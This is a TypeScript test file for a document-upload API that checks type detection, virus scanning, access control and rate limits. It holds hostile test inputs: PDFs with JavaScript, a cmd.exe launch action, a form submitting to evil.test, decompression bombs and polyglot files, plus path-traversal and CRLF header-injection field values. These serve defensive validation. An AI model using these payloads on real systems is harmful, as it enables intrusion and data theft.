/** Documents (R5.4): recognised by content, stored privately, served to their owner and admins only, never inline. */
import { mkdtemp, readdir, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { deflateSync } from "node:zlib";
import sharp from "sharp";
import { afterAll, beforeAll, expect, test, vi } from "vitest";
import { deleteDocumentEndpoint, listDocumentsEndpoint, type OwnDocument } from "#contract/documents.ts";
import { uploads } from "#contract/file-limits.ts";
import { readTeacherProfileEndpoint } from "#contract/teachers.ts";
import { drawDocument } from "#demo/draw-document.ts";
import { arrivalsDir } from "#server/files/arriving-uploads.ts";
import { createTestApp, type TestApp } from "#test/app.ts";
import { startClamd, type TestClamd } from "#test/clamd.ts";
import { makePerson, type TestPerson } from "#test/people.ts";
import { startS3 } from "#test/s3.ts";
import { html, makeHugePng, makeJpeg, makePng, svg } from "#test/sample-images.ts";
import { type FormFile, sendForm } from "#test/upload.ts";

const virus = "THE-TEST-VIRUS";
const pdf = drawDocument("demo-identity");
let app: TestApp;
let clamd: TestClamd;
let dir: string;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), "nukkad-documents-"));
  clamd = await startClamd(virus);
  app = await createTestApp({ settings: { FILES_DIR: join(dir, "files"), CLAMD_ADDRESS: clamd.address } });
  // Separates uploads in progress from other temporary files.
  vi.stubEnv("TMPDIR", await mkdtemp(join(dir, "tmp-")));
});
afterAll(async () => {
  await app.close();
  await clamd.stop();
  await rm(dir, { recursive: true, force: true });
});

const make = (role: "teacher" | "student" | "admin" = "teacher") => makePerson(app.database.db, { role });
const storedFiles = () => readdir(join(dir, "files"));

function upload(
  { token }: TestPerson,
  file: Partial<FormFile> & { bytes: Buffer },
  fields: Record<string, string> = { name: "Aadhaar card", type: "identity" },
  on = app,
) {
  return sendForm<Partial<OwnDocument>>(on, {
    url: "/api/teachers/documents",
    token,
    fields,
    files: [{ field: "document", ...file }],
  });
}

const download = (id = "", { token }: { token: string }, on = app) =>
  on.app.inject({ url: `/api/teachers/documents/${id}/file`, headers: { authorization: `Bearer ${token}` } });

test("R5.4 a PDF is uploaded, listed, read unchanged by its owner, and deleted", async () => {
  const owner = await make();
  const { status, body } = await upload(owner, { bytes: pdf, filename: "../../x.exe", mediaType: "text/html" });
  expect(status).toBe(201);
  expect(body).toMatchObject({ name: "Aadhaar card", type: "identity", verified: false, mediaType: "application/pdf" });
  expect((await app.call(listDocumentsEndpoint, { token: owner.token })).body).toEqual([body]);
  expect((await app.call(readTeacherProfileEndpoint, { token: owner.token })).body.documents).toEqual([body]);

  const file = await download(body.id, owner);
  expect(file.rawPayload.equals(pdf)).toBe(true);
  expect(file.headers).toMatchObject({
    "content-type": "application/pdf",
    "content-disposition": `attachment; filename="document.pdf"; filename*=UTF-8''Aadhaar%20card.pdf`,
    "x-content-type-options": "nosniff",
    "cache-control": "private, no-store",
    "content-security-policy": "default-src 'none'; sandbox",
  });
  const before = await storedFiles();
  const deleted = await app.call(deleteDocumentEndpoint, { token: owner.token, params: { id: body.id ?? "" } });
  expect([deleted.status, (await download(body.id, owner)).statusCode]).toEqual([204, 404]);
  expect(await storedFiles()).toHaveLength(before.length - 1);
});

test("R5.4 images are re-encoded in their format, without camera metadata", async () => {
  const owner = await make();
  for (const [bytes, format] of [
    [Buffer.concat([await makeJpeg(), html]), "jpeg"],
    [await makePng(), "png"],
  ] as const) {
    const { body } = await upload(owner, { bytes }, { name: "B.A./B.Ed. मार्कशीट", type: "qualification" });
    const file = await download(body.id, owner);
    const { exif, ...found } = await sharp(file.rawPayload).metadata();
    expect([found.format, exif, file.rawPayload.includes("Canary"), file.rawPayload.includes("script")]).toEqual([
      format,
      undefined,
      false,
      false,
    ]);
    expect(file.headers["content-disposition"]).toMatch(/^attachment; .*filename\*=UTF-8''B\.A\.-B\.Ed\.%20%E0/);
  }
});

const zip = Buffer.concat([Buffer.from("PK\x05\x06", "latin1"), Buffer.alloc(18)]);
const elevenMegabytes = Buffer.concat([pdf, Buffer.alloc(11 * 1024 * 1024, 32)]);

test.each<[string, () => Buffer | Promise<Buffer>, number, string]>([
  ["a page called .pdf", () => html, 415, "document_type"],
  ["an SVG", () => svg, 415, "document_type"],
  ["an archive", () => zip, 415, "document_type"],
  [
    "a PDF that is an archive too",
    () => Buffer.concat([pdf, zip, Buffer.from("\nstartxref\n9\n%%EOF\n")]),
    400,
    "file_broken",
  ],
  ["a PDF with a page behind it", () => Buffer.concat([pdf, html]), 400, "file_broken"],
  ["a page with a PDF behind it", () => Buffer.concat([html, pdf]), 415, "document_type"],
  ["a PDF of no version", () => Buffer.concat([Buffer.from("%PDF-<html>\n"), pdf]), 400, "file_broken"],
  ["half a PDF", () => pdf.subarray(0, 300), 400, "file_broken"],
  ["half a JPEG", async () => (await makeJpeg()).subarray(0, 900), 400, "file_broken"],
  ["a PNG of 256 megapixels", () => makeHugePng(), 400, "image_pixels"],
  ["nothing", () => Buffer.alloc(0), 400, "file_empty"],
  ["11 MB", () => elevenMegabytes, 413, "document_too_large"],
  ["a virus", () => Buffer.concat([Buffer.from(`%PDF-1.4\n${virus}\n`), pdf]), 400, "file_infected"],
])("R5.4 %s is refused with a clear message and leaves no file and no row", async (_what, bytes, status, code) => {
  const owner = await make();
  const before = await storedFiles();
  const answer = await upload(owner, {
    bytes: await bytes(),
    filename: "certificate.pdf",
    mediaType: "application/pdf",
  });
  expect([answer.status, answer.body.issues?.map((issue) => [issue.path, issue.code])]).toEqual([
    status,
    [["document", code]],
  ]);
  expect(answer.body.issues?.[0]?.message).toMatch(/\w+ \w+/);
  expect(await storedFiles()).toEqual(before);
  expect((await app.call(listDocumentsEndpoint, { token: owner.token })).body).toEqual([]);
  expect(await readdir(arrivalsDir())).toEqual([]);
});

/** The example with one more object. */
const pdfWith = (object: string | Buffer) => {
  const at = pdf.indexOf("xref\n");
  const wrapped = [Buffer.from("9 0 obj\n"), Buffer.from(object), Buffer.from("\nendobj\n")];
  return Buffer.concat([pdf.subarray(0, at), ...wrapped, pdf.subarray(at)]);
};
/** Objects packed into a stream, as PDF 1.5 allows. */
const packed = (objects: string, dictionary = "/Filter /FlateDecode", bytes = deflateSync(`1 0 ${objects}`)) =>
  pdfWith(
    Buffer.concat([
      Buffer.from(`<< /Type /ObjStm /N 1 /First 4 ${dictionary} /Length ${bytes.length} >>\nstream\n`),
      bytes,
      Buffer.from("\nendstream"),
    ]),
  );
const packedThrice = (objects: string) => {
  const one = packed(objects);
  const [from, to] = [one.indexOf("9 0 obj\n"), one.indexOf("xref\n")];
  const stream = one.subarray(from, to);
  return Buffer.concat([one.subarray(0, to), stream, stream, one.subarray(to)]);
};
const script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";

test.each<[string, Buffer, string]>([
  ["a script", pdfWith(script), "pdf_active"],
  ["a script in escapes", pdfWith("<< /S /J#61va#53cript /JS (x) >>"), "pdf_active"],
  ["a script that opens with it", pdfWith(`<< /Type /Catalog /OpenAction ${script} >>`), "pdf_active"],
  ["a program to launch", pdfWith("<< /S /Launch /F (cmd.exe) >>"), "pdf_active"],
  ["an attached file", pdfWith("<< /Names << /EmbeddedFiles 7 0 R >> >>"), "pdf_active"],
  ["a form that sends", pdfWith("<< /S /SubmitForm /F (http://evil.test) >>"), "pdf_active"],
  ["a password", pdfWith("<< /Root 1 0 R/Encrypt<< /Filter /Standard >> >>"), "pdf_locked"],
  ["a script among packed objects", packed(script), "pdf_active"],
  ["an attached file among packed objects", packed("<< /Type /EmbeddedFile >>"), "pdf_active"],
  ["packed objects that cannot be inspected", packed(script, "/Filter [/LZWDecode]", Buffer.from("xyz")), "pdf_active"],
  [
    "packed objects mixed with their neighbours",
    packed("x", "/Filter /FlateDecode /DecodeParms << /Predictor 12 >>"),
    "pdf_active",
  ],
  ["packed objects without end", packed("1 ".repeat(40_000_000)), "pdf_active"],
  ["packed objects that are too much together", packedThrice("1 ".repeat(12_000_000)), "pdf_active"],
  ["compressed parts without number", pdfWith("stream\n\x78\x01\n".repeat(6000)), "pdf_active"],
])("R5.4 a PDF with %s is refused with a clear message", async (_what, bytes, code) => {
  const { status, body } = await upload(await make(), { bytes });
  expect([status, body.issues?.map((issue) => issue.code)]).toEqual([400, [code]]);
  expect(body.issues?.[0]?.message).toMatch(/send a photo of the paper/);
});

test.each<[string, Buffer]>([
  ["an opening position", pdfWith("<< /Type /Catalog /OpenAction [3 0 R /Fit] >>")],
  ["a link", pdfWith("<< /S /URI /URI (https://university.example) >>")],
  ["packed objects", packed("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")],
  ["text that resembles PDF names", pdfWith("<< /EncryptMetadata false /JavaScripture (x) >>")],
])("R5.4 a PDF with %s is accepted", async (_what, bytes) => {
  expect((await upload(await make(), { bytes })).status).toBe(201);
});

test.each<[Record<string, string>, string, string]>([
  [{ type: "identity" }, "name", "required"],
  [{ name: " ", type: "identity" }, "name", "required"],
  [{ name: "../../etc/passwd", type: "identity" }, "name", "document_name"],
  [{ name: "C:\\secret", type: "identity" }, "name", "document_name"],
  [{ name: ".profile", type: "identity" }, "name", "document_name"],
  [{ name: "folder/", type: "identity" }, "name", "document_name"],
  [{ name: "degree/..", type: "identity" }, "name", "document_name"],
  [{ name: "a\r\nSet-Cookie: x", type: "identity" }, "name", ""],
  [{ name: "x".repeat(101), type: "identity" }, "name", "too_long"],
  [{ name: "Aadhaar", type: "passport" }, "type", "document_kind"],
])("R5.4 fields %j", async (fields, path, code) => {
  const { status, body } = await upload(await make(), { bytes: pdf }, fields);
  if (code === "") return expect([status, body.name]).toEqual([201, "a Set-Cookie: x"]);
  expect([status, body.issues?.map((issue) => [issue.path, issue.code])]).toEqual([400, [[path, code]]]);
});

test.each(["M.Sc.", "B.Ed.", "एम.ए.", "Ph.D. (Maths), Univ. of Delhi", "B.Sc./M.Sc."])(
  "R5.4 a document may be called %s, and is saved under that name",
  async (name) => {
    const owner = await make();
    const { status, body } = await upload(owner, { bytes: pdf }, { name, type: "qualification" });
    expect([status, body.name]).toEqual([201, name]);
    expect((await app.call(listDocumentsEndpoint, { token: owner.token })).body.map((one) => one.name)).toEqual([name]);
    const { headers } = await download(body.id ?? "", owner);
    const [, saved = ""] = /filename\*=UTF-8''(.+)$/.exec(String(headers["content-disposition"])) ?? [];
    expect(decodeURIComponent(saved)).toBe(`${name.replace("/", "-").replace(/\.$/, "")}.pdf`);
  },
);

test("R5.4 another teacher, a student and a stranger get nothing; an admin's read is recorded", async () => {
  const owner = await make();
  const { body } = await upload(owner, { bytes: pdf });
  const id = body.id ?? "";
  const [other, student, admin] = [await make(), await make("student"), await make("admin")];
  expect((await download(id, other)).statusCode).toBe(404);
  expect((await download(id, student)).statusCode).toBe(403);
  expect((await app.app.inject(`/api/teachers/documents/${id}/file`)).statusCode).toBe(401);
  for (const [person, status] of [
    [other, 404],
    [student, 403],
    [admin, 403],
  ] as const)
    expect((await app.call(deleteDocumentEndpoint, { token: person.token, params: { id } })).status).toBe(status);
  expect((await download(id, admin)).statusCode).toBe(200);
  const { rows } = await app.database.pool.query("select admin_id, act from audit_log where subject_id = $1", [id]);
  expect(rows).toEqual([{ admin_id: admin.id, act: "read_document" }]);
  expect((await download(id, owner)).statusCode).toBe(200);
});

test("R5.4 R12.3 uploads per day are limited, including refused and deleted ones", async () => {
  const [owner, other] = [await make(), await make()];
  for (let sent = 0; sent < uploads.perDay; sent++)
    expect((await upload(owner, { bytes: Buffer.from("no document") })).status).toBe(415);
  const { status, body, headers } = await upload(owner, { bytes: pdf });
  expect([status, body.code, Number(headers["retry-after"]) > 3600]).toEqual([429, "uploads_limit", true]);
  expect(body.message).toContain(String(uploads.perDay));
  expect((await upload(other, { bytes: pdf })).status).toBe(201);
});

test("R5.4 twenty documents at most, also with parallel uploads", async () => {
  const owner = await make();
  await app.database.pool.query(
    `insert into documents (teacher_id, name, type, file_key, media_type, size, sha256)
     select $1::uuid, 'x', 'other', 'many-' || n || $1::text, 'application/pdf', 1, '' from generate_series(1, 18) n`,
    [owner.id],
  );
  const before = await storedFiles();
  const answers = await Promise.all(Array.from({ length: 5 }, () => upload(owner, { bytes: pdf })));
  expect(answers.map(({ status }) => status).sort()).toEqual([201, 201, 400, 400, 400]);
  expect(answers.flatMap(({ body }) => body.issues?.map(({ code }) => code) ?? [])).toEqual(
    Array(3).fill("documents_limit"),
  );
  expect(await storedFiles()).toHaveLength(before.length + 2);
});

test("R5.4 when the scanner is unavailable nothing is stored", async () => {
  clamd.answerWith("");
  const { status } = await upload(await make(), { bytes: pdf });
  clamd.answerWith(null);
  expect(status).toBe(503);
});

test("R5.4 the same with a bucket", async () => {
  const s3 = await startS3();
  const second = await createTestApp({ url: app.url, settings: s3.settings });
  const owner = await make();
  const { body } = await upload(owner, { bytes: pdf }, undefined, second);
  expect((await download(body.id, owner, second)).rawPayload.equals(pdf)).toBe(true);
  await second.call(deleteDocumentEndpoint, { token: owner.token, params: { id: body.id ?? "" } });
  await s3.stop();
  const refused = await upload(owner, { bytes: pdf }, undefined, second);
  expect(refused.status).toBe(503);
  expect((await app.call(listDocumentsEndpoint, { token: owner.token })).body).toEqual([]);
  await second.close();
});
